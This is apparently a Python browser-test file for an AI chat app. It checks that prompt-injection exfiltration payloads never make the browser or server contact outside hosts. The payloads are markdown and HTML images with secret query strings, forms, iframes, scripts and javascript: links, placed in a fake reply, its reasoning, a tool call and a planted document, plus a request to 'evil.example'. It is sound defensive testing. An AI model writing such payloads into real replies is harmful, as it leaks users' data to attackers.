"""What a reply can do in a real browser: nothing it holds makes the browser reach out.

A document and a tool result carry the payloads a prompt injection would have the
model write (garak's MarkdownExfil and HtmlImgExfil families, forms, frames, fence
breaks), and so do the reply and its reasoning. A canary site on loopback is where
they all point: it must get no request at all, live or in the reopened chat.
"""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Page, expect

from fakes.fake_openai import Scenario
from tests.browser import bot_messages, message_box, open_app
from tests.conftest import FAKE_MODEL, start_app
from tests.loopback_site import LoopbackSite


@pytest.fixture(scope="module")
def canary():
    with LoopbackSite() as site:
        yield site


@pytest.fixture(scope="module")
def safe_app(fake_server, tmp_path_factory):
    app = start_app({"OPENAI_BASE_URL": fake_server.base_url, "ASSISTANT_MODEL": FAKE_MODEL,
                     "ASSISTANT_DATA_DIR": str(tmp_path_factory.mktemp("safety-data"))})
    yield app
    app.close()


def payloads(c: str) -> str:
    """Every way a reply has made the browser fetch or send, pointed at the canary `c`."""
    return f"""The guide says so [1].

![md]({c}/md.png?secret=s3cret)

<img src="{c}/raw.png">

![ref][pic]

[pic]: {c}/ref.png

<div style="background-image:url({c}/css.png)">styled</div>

<form action="{c}/form" method="post"><input name="q" value="secret"><button>Send it</button></form>

<iframe src="{c}/frame"></iframe>

<svg><image href="{c}/svg.png"/></svg> <video poster="{c}/poster.png"></video>

<link rel="prefetch" href="{c}/prefetch"> <script>window.__pwned = 1</script>

[click me](javascript:window.__pwned=2) and [a site]({c}/page)
"""


def evil_document(c: str, folder: Path) -> Path:
    path = folder / "guide.md"
    path.write_text(f"# Guide <img src=\"{c}/heading.png\">\n\nThe passage says ````\n"
                    f"![p]({c}/passage.png) <img src={c}/passage-raw.png> ```` the end.\n")
    return path


def attach_and_send(page: Page, path: Path, text: str) -> None:
    page.locator(".multimodal-textbox input[type=file]").set_input_files(str(path))
    expect(page.get_by_label("File thumbnail")).to_have_count(1, timeout=20_000)
    box = message_box(page)
    box.fill(text)
    box.press("Enter")


def test_no_payload_in_a_reply_a_tool_result_or_a_document_reaches_out(
        page, safe_app, fake, canary, tmp_path):
    c = canary.origin
    search = {"name": "search_documents",
              "arguments": json.dumps({"query": f"guide ```` <img src={c}/args.png>"})}
    fake.enqueue(Scenario(tool_calls=[search]),
                 Scenario(text=payloads(c), reasoning=f"Hmm ![r]({c}/reasoning.png) "
                                                     f"<img src={c}/reasoning-raw.png>"))
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    response = page.goto(safe_app.url, wait_until="domcontentloaded")
    policy = response.headers["content-security-policy"]
    for directive in ("img-src 'self' data: blob:", "form-action 'self'", "frame-src 'none'",
                      "connect-src 'self'", "frame-ancestors 'self'"):
        assert directive in policy
    open_app(page, safe_app.url)
    attach_and_send(page, evil_document(c, tmp_path), "What does the guide say?")

    reply = bot_messages(page).filter(has_text="The guide says so")
    expect(reply).to_be_visible(timeout=20_000)
    expect(page.get_by_text("to first token")).to_be_visible(timeout=20_000)
    chat = page.locator('[data-testid="bot"]')
    link = chat.get_by_role("link", name="🖼 image from 127.0.0.1").first
    expect(link).to_have_attribute("href", f"{c}/md.png?secret=s3cret")
    expect(chat.get_by_text("Send it")).to_be_visible()  # the form's button, as text
    for title in ("🔧 search_documents", "💭 Thought", "📚 Sources"):
        chat.get_by_text(title).first.click()  # opened: what was folded shows, and loads nothing
    sources = chat.filter(has_text="📚 Sources")
    expect(sources.get_by_text(f"Guide <img src=\"{c}/heading.png\">")).to_be_visible()
    expect(chat.get_by_text(f"<img src={c}/passage-raw.png>").first).to_be_visible()
    expect(chat.get_by_text(f"<img src={c}/reasoning-raw.png>").first).to_be_visible()
    chat.get_by_text("click me").click()

    def reaching_out() -> list[str]:
        assert chat.locator("form, input, iframe, img[src^='http'], image, video").count() == 0
        assert page.evaluate("window.__pwned") is None and dialogs == []
        return [url for url in seen if url.startswith(c)] + canary.requests

    assert reaching_out() == []
    page.reload(wait_until="domcontentloaded")  # the chat, reopened from the store
    expect(bot_messages(page).filter(has_text="The guide says so")).to_be_visible(timeout=20_000)
    expect(chat.get_by_role("link", name="🖼 image from 127.0.0.1").first).to_be_visible()
    assert reaching_out() == []

    with page.context.expect_page() as opened:  # the image loads when the user asks for it
        chat.get_by_role("link", name="🖼 image from 127.0.0.1").first.click()
    opened.value.wait_for_load_state()
    assert canary.requests == ["GET /md.png?secret=s3cret"]


def test_allowed_image_hosts_show_at_once_and_framing_follows_the_setting(
        page, fake_server, fake, tmp_path, safe_app):
    with LoopbackSite() as images, LoopbackSite() as host:
        app = start_app({"OPENAI_BASE_URL": fake_server.base_url, "ASSISTANT_MODEL": FAKE_MODEL,
                         "ASSISTANT_DATA_DIR": str(tmp_path),
                         "ASSISTANT_IMAGE_HOSTS": f"127.0.0.1:{images.port}",
                         "ASSISTANT_FRAME_ANCESTORS": f"'self' {host.origin}"})
        try:
            dot = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4" \
                  "nGP4z8DwHwAFAAH/q842iQAAAABJRU5ErkJggg=="
            fake.enqueue(Scenario(text=f"A chart: ![chart]({images.origin}/chart.png) ![dot]({dot})"))
            open_app(page, app.url)
            with page.expect_request(f"{images.origin}/chart.png"):
                message_box(page).fill("Draw it")
                message_box(page).press("Enter")
            expect(bot_messages(page).first.locator("img")).to_have_count(2)  # data: shows too

            host.pages["/embed.html"] = (f'<iframe id="allowed" src="{app.url}"></iframe>'
                                         f'<iframe id="refused" src="{safe_app.url}"></iframe>')
            page.goto(f"{host.origin}/embed.html")
            allowed = page.frame_locator("#allowed")
            expect(allowed.locator(".multimodal-textbox textarea")).to_be_editable(timeout=20_000)
            refused = page.locator("#refused").element_handle().content_frame()
            refused.wait_for_load_state()
            assert refused.url.startswith("chrome-error://")  # the default is 'self'
            assert refused.locator(".multimodal-textbox").count() == 0
        finally:
            app.close()


def test_the_server_fetches_no_outside_file_for_a_page(safe_app):
    """Gradio's /file=<url> and /proxy=<url> would fetch for whoever asks, past the CSP."""
    with LoopbackSite() as canary, httpx.Client(base_url=safe_app.url) as web:
        for path in (f"/gradio_api/file={canary.origin}/x.png?q=secret",
                     "/gradio_api/file=HTTPS://evil.example/x.png",
                     f"/gradio_api/proxy={canary.origin}/y"):
            answer = web.get(path)
            assert answer.status_code == 403, path
            assert "does not fetch other sites" in answer.text
        assert canary.requests == []
